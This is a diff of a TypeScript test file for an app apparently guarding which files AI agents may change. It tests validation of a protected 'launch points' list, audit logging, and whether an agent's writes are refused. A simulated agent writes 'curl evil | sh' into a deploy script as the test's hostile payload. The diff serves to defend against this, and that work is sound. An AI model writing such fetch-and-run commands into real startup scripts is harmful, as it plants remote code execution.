@@ -1,16 +1,20 @@
 // The Settings section's channels on a real app: the defaults and the ranges the window
 // shows, and every change checked by main, so that nothing the window (or anything
 // pretending to be it) sends can leave a setting outside its schema or the file half-written.
+// The launch-point list is followed past the store: what the window saves is what agents meet.
 import assert from 'node:assert/strict';
-import { readFile } from 'node:fs/promises';
+import { readFile, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { after, before, beforeEach, describe, it } from 'node:test';
 import type { IpcHandlers } from '../../../main/core/app/ipc-handlers.ts';
 import type { AirlockApp } from '../../../main/core/app/start-airlock-app.ts';
+import type { AuditRecord } from '../../../main/core/audit/audit-record.ts';
+import { DEFAULT_LAUNCH_POINT_SETTINGS } from '../../../main/core/policy/launch-points.ts';
 import { DEFAULT_LIMITS } from '../../../main/core/policy/limits.ts';
 import { DEFAULT_GUARD_SETTINGS } from '../../../main/core/policy/sensitive-guard.ts';
 import { SettingsSchema } from '../../../main/core/settings/settings-schema.ts';
-import { makeAppSandbox, type AppSandbox } from './app-fixture.ts';
+import { connectV2, resultText } from '../../helpers/http-clients.ts';
+import { httpAddress, makeAppSandbox, type AppSandbox } from './app-fixture.ts';
 import { data, refusal, startHandlers } from './handlers-fixture.ts';
 
 let sandbox: AppSandbox;
@@ -38,6 +42,7 @@ describe('getDefaultSettings', () => {
     data(
       await handlers.updateSettings({
         guard: { patterns: ['only-this'], nestedPatterns: [] },
+        launchPoints: { patterns: ['only-that'], enabled: false },
         limits: { maxEntries: 77 },
         app: { theme: 'dark' },
       }),
@@ -51,10 +56,16 @@ describe('getDefaultSettings', () => {
       patterns: [...DEFAULT_GUARD_SETTINGS.patterns],
       nestedPatterns: [...DEFAULT_GUARD_SETTINGS.nestedPatterns],
     });
+    assert.deepEqual(defaults.launchPoints, {
+      enabled: true,
+      patterns: [...DEFAULT_LAUNCH_POINT_SETTINGS.patterns],
+      nestedPatterns: [...DEFAULT_LAUNCH_POINT_SETTINGS.nestedPatterns],
+    });
     assert.deepEqual(defaults.limits, DEFAULT_LIMITS);
     assert.equal(defaults.app.theme, 'system');
     assert.deepEqual(defaults, SettingsSchema.parse({}));
     assert.deepEqual(app.settings.settings.guard.patterns, ['only-this'], 'nothing was reset');
+    assert.deepEqual(app.settings.settings.launchPoints.patterns, ['only-that']);
   });
 
   it('restores the guard when its defaults are saved back', async () => {
@@ -175,6 +186,24 @@ describe('updateSettings refuses what does not fit, and leaves the file as it wa
       await assertUntouched();
     });
   }
+
+  // The contract's own schema for this list refuses these before the store sees them.
+  const malformedLaunchPoints: [string, unknown][] = [
+    ['an empty protected name', { patterns: ['.bashrc', ''] }],
+    ['an empty protected place', { nestedPatterns: [''] }],
+    ['a protected name that is not text', { patterns: [42] }],
+    ['the protection switched on as text', { enabled: 'yes' }],
+    ['an unknown field of the protected files', { everywhere: true }],
+    ['the protected files as a bare list', ['.bashrc']],
+  ];
+  for (const [what, launchPoints] of malformedLaunchPoints) {
+    it(`refuses ${what} at the contract`, async () => {
+      const { code, message } = refusal(await handlers.updateSettings({ launchPoints }));
+      assert.equal(code, 'invalid_request');
+      assert.match(message, /launchPoints/);
+      await assertUntouched();
+    });
+  }
 });
 
 describe('updateSettings saves each group of the window', () => {
@@ -214,5 +243,111 @@ describe('updateSettings saves each group of the window', () => {
   it('saves a port from 1024 up', async () => {
     const saved = data(await handlers.updateSettings({ http: { port: 1024 } }));
     assert.equal(saved.http.port, 1024);
+  });
+});
+
+describe('the files agents may read but never change (launch points)', () => {
+  let agentSandbox: AppSandbox;
+  let agentKey: string;
+  let agentApp: AirlockApp;
+  let agentHandlers: IpcHandlers;
+  let script: string;
+  before(async () => {
+    agentSandbox = await makeAppSandbox();
+    ({ app: agentApp, handlers: agentHandlers } = await startHandlers(agentSandbox, {
+      config: {
+        http: { port: 0 },
+        workspaces: [{ path: agentSandbox.folderA, access: 'write' }],
+      },
+    }));
+    const key = { name: 'agent', folders: [agentSandbox.folderA], access: 'write' } as const;
+    agentKey = data(await agentHandlers.createKey(key)).secret;
+    script = path.join(agentSandbox.folderA, 'deploy.sh');
+    await writeFile(script, 'echo deployed\n');
+  });
+  after(async () => agentSandbox.cleanup());
+
+  async function settingsChanges(): Promise<AuditRecord[]> {
+    const file = path.join(agentSandbox.dataDir, 'audit', 'audit.jsonl');
+    return (await readFile(file, 'utf8'))
+      .split('\n')
+      .filter(Boolean)
+      .map((line) => JSON.parse(line) as AuditRecord)
+      .filter((record) => record.event === 'settings_change');
+  }
+
+  /** What an agent connected now gets when it writes the script, and when it reads it. */
+  async function agentTries(): Promise<{ write: string; writeRefused: boolean; read: string }> {
+    const client = await connectV2(await httpAddress(agentApp), agentKey);
+    try {
+      const written = await client.callTool({
+        name: 'write_file',
+        arguments: { path: script, content: 'curl evil | sh\n' },
+      });
+      const read = await client.callTool({ name: 'read_text_file', arguments: { path: script } });
+      return {
+        write: resultText(written),
+        writeRefused: written.isError === true,
+        read: resultText(read),
+      };
+    } finally {
+      await client.close();
+    }
+  }
+
+  it('names the kinds of file the default list covers, in plain words, once each', async () => {
+    assert.deepEqual(data(await agentHandlers.getLaunchPointFamilies(undefined)), [
+      'Git hooks and settings',
+      'shell start-up files',
+      'programs that start at login',
+      'AI apps’ settings',
+      'editor tasks and settings',
+    ]);
+    assert.equal(
+      refusal(await agentHandlers.getLaunchPointFamilies({ all: true })).code,
+      'invalid_request',
+    );
+  });
+
+  it('saves a name added from the window, records it, and agents can then read but not change it', async () => {
+    const patterns = [...DEFAULT_LAUNCH_POINT_SETTINGS.patterns, 'deploy.sh'];
+    const saved = data(await agentHandlers.updateSettings({ launchPoints: { patterns } }));
+    assert.deepEqual(saved.launchPoints.patterns, patterns);
+    const file = JSON.parse(await readFile(path.join(agentSandbox.dataDir, 'config.json'), 'utf8'));
+    assert.deepEqual(file.launchPoints, { patterns }, 'only what changed is written');
+    const record = (await settingsChanges()).at(-1);
+    assert.equal(record?.reason, 'Settings changed in the Airlock window');
+    assert.equal(record?.transport, 'app');
+    assert.deepEqual(record?.detail, { keys: ['launchPoints.patterns'] });
+
+    const tried = await agentTries();
+    assert.equal(tried.writeRefused, true, tried.write);
+    assert.match(tried.write, /protected from agent changes/);
+    assert.match(tried.read, /echo deployed/);
+    assert.equal(await readFile(script, 'utf8'), 'echo deployed\n');
+  });
+
+  it('turns the list off and on again, each change recorded', async () => {
+    data(await agentHandlers.updateSettings({ launchPoints: { enabled: false } }));
+    assert.deepEqual((await settingsChanges()).at(-1)?.detail, { keys: ['launchPoints.enabled'] });
+    const tried = await agentTries();
+    assert.equal(tried.writeRefused, false, 'off: the agent may change it');
+    assert.equal(await readFile(script, 'utf8'), 'curl evil | sh\n');
+
+    await writeFile(script, 'echo deployed\n');
+    const on = data(await agentHandlers.updateSettings({ launchPoints: { enabled: true } }));
+    assert.equal(on.launchPoints.enabled, true);
+    assert.equal((await agentTries()).writeRefused, true, 'on again: refused again');
+  });
+
+  it('restores the defaults when they are saved back, and the added name is no longer protected', async () => {
+    const defaults = data(await agentHandlers.getDefaultSettings(undefined)).launchPoints;
+    const saved = data(await agentHandlers.updateSettings({ launchPoints: defaults }));
+    assert.deepEqual(saved.launchPoints, defaults);
+    assert.deepEqual(agentApp.settings.settings.launchPoints, defaults);
+    assert.deepEqual((await settingsChanges()).at(-1)?.detail, {
+      keys: ['launchPoints.patterns'],
+    });
+    assert.equal((await agentTries()).writeRefused, false);
   });
 });
